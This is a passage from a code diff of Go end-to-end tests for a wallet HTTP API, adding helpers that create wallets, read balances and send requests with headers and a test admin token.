+			"from=" + url.QueryEscape(from) + "&to=" + url.QueryEscape(to) + "&format=xlsx",
+		} {
+			resp := doRequest(t, ts, "GET", fmt.Sprintf("/api/v1/wallets/%s/statement?%s", walletID, query), nil)
+			assert.Equal(t, http.StatusBadRequest, resp.StatusCode, query)
+		}
+
+		resp := doRequest(t, ts, "GET", statementPath(uuid.New(), "csv"), nil)
+		assert.Equal(t, http.StatusNotFound, resp.StatusCode)
+	})
+}
+
+func mustCreateWallet(t *testing.T, ts *httptest.Server) uuid.UUID {
+	resp := doRequest(t, ts, "POST", "/api/v1/wallets", nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+
+	var createResp struct {
+		WalletID uuid.UUID `json:"walletId"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&createResp))
+	return createResp.WalletID
+}
+
+func mustGetBalance(t *testing.T, ts *httptest.Server, walletID uuid.UUID) int64 {
+	resp := doRequest(t, ts, "GET", fmt.Sprintf("/api/v1/wallets/%s", walletID), nil)
+	require.Equal(t, http.StatusOK, resp.StatusCode)
+
+	var balanceResp struct {
+		Balance int64 `json:"balance"`
+	}
+	require.NoError(t, json.NewDecoder(resp.Body).Decode(&balanceResp))
+	return balanceResp.Balance
 }
 
 func doRequest(t *testing.T, ts *httptest.Server, method, path string, body interface{}) *http.Response {
+	return doRequestWithHeaders(t, ts, method, path, body, nil)
+}
+
+func doRequestWithHeaders(t *testing.T, ts *httptest.Server, method, path string, body interface{}, headers map[string]string) *http.Response {
 	var bodyReader io.Reader
 	if body != nil {
 		b, err := json.Marshal(body)
@@ -135,6 +1510,13 @@ func doRequest(t *testing.T, ts *httptest.Server, method, path string, body inte
 	if body != nil {
 		req.Header.Set("Content-Type", "application/json")
 	}
+	// Админские запросы тестов — с токеном; без него см. TestE2E_AdminAuth
+	if strings.HasPrefix(path, "/api/v1/admin/") {
+		req.Header.Set("Authorization", "Bearer "+testAdminToken)
+	}
+	for k, v := range headers {
+		req.Header.Set(k, v)
+	}
 
 	client := &http.Client{Timeout: 10 * time.Second}
 	resp, err := client.Do(req)